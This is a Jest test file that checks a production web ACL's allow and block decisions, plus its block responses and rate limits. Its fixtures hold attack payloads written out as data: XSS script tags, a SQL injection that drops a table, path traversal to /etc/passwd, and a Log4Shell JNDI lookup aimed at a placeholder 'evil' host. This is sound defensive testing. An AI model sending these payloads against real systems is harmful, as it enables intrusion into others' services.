import { BODY_LIMIT_BYTES } from "../../../app/kit/body";
import { judge } from "../../../rehearsal/waf/judge";
import { MANAGED_GROUPS } from "../../../rehearsal/waf/managed/all";
import { RequestRates } from "../../../rehearsal/waf/request-rates";
import { collectionRequests } from "../../support/collection-requests";
import { type Asked, inspected, verdictOn } from "../../support/inspected";
import { NEWMAN_REQUESTS } from "../../support/newman-requests";
import { synthesize } from "../../support/synthesize";
import { webAclOf } from "../../support/web-acl-of-stack";

const webAcl = webAclOf(synthesize("network", "prod"));
const post = (body: string, url = "/api/products"): Asked => ({
  method: "POST",
  url,
  headers: { "content-type": "application/json" },
  body,
});
const part = (url: string): Asked => ({
  method: "PUT",
  url,
  headers: { "content-type": "text/csv" },
  body: `name,description\n"Robert'); DROP TABLE products;--",<script>alert(1)</script>\n${"chair,oak\n".repeat(9_000)}`,
});
const wordsOf = (asked: Asked): string => {
  const { action, rule } = verdictOn(webAcl, asked);
  return `${action} ${rule.inGroup?.rule ?? rule.name}`;
};
const LOG4SHELL = ["$", "{jndi:ldap://evil/a}"].join("");
/** Five answers in a row for at most a minute, twice a second, and four paths twice. */
const VERDICT = 128;

describe("the web ACL of prod", () => {
  it("lets everything through that Newman asks", () => {
    const requests = collectionRequests();
    expect(requests.filter(({ body = "" }) => body.length > 100_000).length).toBeGreaterThan(1);
    const stopped = requests.filter((asked) => verdictOn(webAcl, asked).action !== "ALLOW");
    expect([...new Set(stopped.map((asked) => `${wordsOf(asked)}: ${asked.name}`))]).toEqual([]);
  });

  it.each([
    ["a body between 8 kB and the API's limit", post(JSON.stringify({ description: "x".repeat(90_000) }))],
    ["a body over the limit, which the API refuses in its own words", post("x".repeat(BODY_LIMIT_BYTES * 5))],
    ["a name with a script", post('{"name": "<script>alert(1)</script>"}')],
    ["a name of SQL", post(`{"name": "Robert'); DROP TABLE products;--"}`)],
    ["a description with an address", post('{"description": "manual: http://10.0.0.5/oven.pdf"}', "/api/inventory/7")],
    ["a search for any of these", { url: "/api/products?q=%3Cscript%3E%20or%201%3D1%20setup.ini%20../../" }],
    ["a search for a long name in Japanese", { url: `/api/products?q=${encodeURIComponent("木".repeat(255))}` }],
    ["a list of a thousand ids", { url: `/api/inventory?limit=1000&product_id=${"12345,".repeat(1000)}1` }],
    ["a part of a file with SQL, a script and 90 kB", part("/api/imports/7/parts/3?last=true")],
    ["the same by the path without /api", part("/imports/7/parts/3?last=true")],
    ["the same by the older path", post('{"name": "<script>"}', "/products/7")],
  ])("lets %s through", (_, asked) => {
    expect(wordsOf(asked)).toBe("ALLOW Default_Action");
  });

  it.each([
    ["a script in a path", { url: "/api/products/%3Cscript%3Ealert(1)" }, "CrossSiteScripting_URIPATH"],
    ["SQL in a path", { url: "/api/products/1'%20or%201=1--" }, "SQLi_URIPATH"],
    ["a path that climbs", { url: "/static/../../etc/passwd" }, "GenericLFI_URIPATH"],
    ["a script in a cookie", { headers: { cookie: "a=<script>alert(1)</script>" } }, "CrossSiteScripting_COOKIE"],
    ["Log4Shell in a header", { headers: { "x-api-version": LOG4SHELL } }, "Log4JRCE_HEADER"],
    ["Log4Shell in a name", post(JSON.stringify({ name: LOG4SHELL })), "Log4JRCE_BODY"],
    ["a scanner", { headers: { "user-agent": "Nessus" } }, "UserAgent_BadBots_HEADER"],
    ["a client that does not say what it is", { headers: { "user-agent": "" } }, "NoUserAgent_HEADER"],
    ["a script to a path without free text", { url: "/docs?x=<script>" }, "AttackOutsideFreeText"],
    ["SQL to a path that only begins alike", { url: "/api/products-full?x=1 union select 1" }, "AttackOutsideFreeText"],
    ["a large body to the page", post("x".repeat(9000), "/"), "AttackOutsideFreeText"],
    ["a body of megabytes", post("", "/api/products"), "BodySize"],
  ])("blocks %s", (name, asked: Asked, rule) => {
    const large = name === "a body of megabytes" ? { "content-length": "0001000000" } : {};
    expect(wordsOf({ ...asked, headers: { ...asked.headers, ...large } })).toBe(`BLOCK ${rule}`);
  });

  it("answers every request that it blocks with a problem, as far as WAF can", () => {
    for (const asked of [{ url: "/docs?x=<script>" }, { headers: { "user-agent": "nmap" } }]) {
      const { response, body } = verdictOn(webAcl, asked);
      expect(response?.ResponseCode).toBe(403);
      expect(body?.ContentType).toBe("APPLICATION_JSON");
      expect(JSON.parse(body?.Content ?? "")).toMatchObject({ type: "urn:stockwiz:problem:blocked", status: 403 });
    }
  });

  it("decides of every rule that AWS documents, and of no other", () => {
    for (const { name, rules, notPlayed } of MANAGED_GROUPS) {
      const group = webAcl.acl.Rules?.find((rule) => rule.Statement?.ManagedRuleGroupStatement?.Name === name);
      const decided = group?.Statement?.ManagedRuleGroupStatement?.RuleActionOverrides?.map(({ Name }) => Name);
      expect(decided?.sort()).toEqual([...rules.map(({ Name }) => Name), ...notPlayed].sort());
    }
  });

  it("leaves two deployments with their smoke tests and half as many clerks below its rate, and stops what is more", () => {
    const limit = webAcl.acl.Rules?.flatMap(({ Statement }) => Statement?.RateBasedStatement?.Limit ?? [])[0] ?? 0;
    expect(NEWMAN_REQUESTS).toBeGreaterThan(new Set(collectionRequests().map(({ name }) => name)).size);
    expect(limit).toBeGreaterThan(4 * NEWMAN_REQUESTS + 2 * VERDICT + limit / 2);
    const onlyRate = webAcl.acl.Rules?.filter(({ Name }) => Name === "RatePerAddress") ?? [];
    const small = { ...webAcl, acl: { ...webAcl.acl, Rules: onlyRate } };
    const rates = new RequestRates(() => 0);
    const request = inspected({ url: "/version" });
    const verdicts = Array.from({ length: limit + 1 }, () => judge(small, request, rates));
    expect(verdicts.at(-2)?.action).toBe("ALLOW");
    expect(verdicts.at(-1)).toMatchObject({ action: "BLOCK", response: { ResponseCode: 429 } });
  });
});
